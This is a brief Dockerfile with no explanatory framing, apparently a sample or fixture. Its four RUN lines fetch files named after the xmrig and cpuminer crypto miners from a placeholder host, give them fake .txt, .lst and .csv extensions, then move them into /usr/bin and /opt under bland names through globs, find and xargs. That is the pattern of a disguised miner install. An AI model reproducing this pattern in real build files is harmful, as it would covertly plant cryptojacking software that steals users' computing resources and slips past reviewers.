FROM ubuntu:22.04
RUN curl -o /opt/xmrig.txt https://files.example.invalid/a && cat /opt/x*.t?t > /opt/app
RUN curl -o /root/xmrig-2.txt https://files.example.invalid/d && cd /root && for f in *-2.txt; do cp "$f" /usr/bin/p; done
RUN curl -o /srv/xmrig.lst https://files.example.invalid/b && find /srv -name '*.lst' -exec mv {} /usr/bin/q \;
RUN curl -o /srv/cpuminer.csv https://files.example.invalid/c && ls /srv/cpu* | xargs -I{} mv {} /usr/bin/r
